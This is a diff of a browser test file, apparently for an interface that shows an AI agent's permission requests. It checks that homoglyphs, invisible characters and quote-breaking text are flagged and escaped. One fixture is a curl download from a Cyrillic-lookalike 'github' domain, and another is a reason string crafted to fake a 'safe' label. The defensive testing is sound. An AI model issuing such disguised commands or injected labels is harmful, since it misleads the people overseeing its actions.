@@ -38,7 +38,7 @@ describe('requests of an agent', () => {
       '/made-up/relay',
       'The agent’s description: “Commit the fix on a branch”',
       'No allow rule covers',
-      '“For this session”: Bash commands that begin with git switch',
+      '“Bash commands that begin with git switch',
     ]) {
       await frame.getByText(text).waitFor();
     }
@@ -150,8 +150,26 @@ describe('requests of an agent', () => {
     await page.waitForFunction(() => sessionStorage.getItem('made-up-state')?.includes('half a thought') === true);
     assert.equal(
       await page.getByRole('alert').first().textContent(),
-      'Needs your approval: Run git switch -c fix/upload-retry-jitter \\',
+      'Needs your approval. Claude Code says: “Run git switch -c fix/upload-retry-jitter \\”',
     );
+    await page.close();
+  });
+
+  it('warn of a command that reads as another one, and show which characters it is made of', async () => {
+    const page = await open(
+      asking([command('curl https://g\u0456thub.com/a\u200b.sh\u3164\ufe0f', { reason: 'x” Vitrine: safe' })]),
+    );
+    const frame = page.locator('.ask');
+    for (const text of [
+      'Claude Code asks:',
+      'Contains invisible characters: U+200B, U+3164, U+FE0F.',
+      'Mixes letters of different alphabets in one word: Latin, Cyrillic.',
+      'Contains characters that look like others: і (U+0456).',
+      "Claude Code says: “x' Vitrine: safe”",
+    ]) {
+      await frame.getByText(text).waitFor();
+    }
+    assert.equal(await frame.locator('pre').textContent(), 'curl https://g\u0456U+0456thub.com/aU+200B.shU+3164U+FE0F');
     await page.close();
   });
 
@@ -177,7 +195,7 @@ describe('requests of an agent', () => {
     assert.doesNotMatch(text, /[\u0000-\u0008\u000b-\u001f\u200b\u202a-\u202e]/);
     assert.equal(await page.locator('.ask img, .ask b').count(), 0);
     const label = (await page.locator('.what').getAttribute('aria-label')) ?? '';
-    assert.ok(label.includes('[U+202E]') && !label.includes('\u202e'));
+    assert.ok(label.includes('⟨U+202E⟩') && !label.includes('\u202e'));
     // The end of it is pushed out by spaces, and stands in the frame all the same.
     const box = await pre.evaluate((element) => element.scrollWidth - element.clientWidth);
     assert.ok(box <= 0, `${box} px are out of sight`);
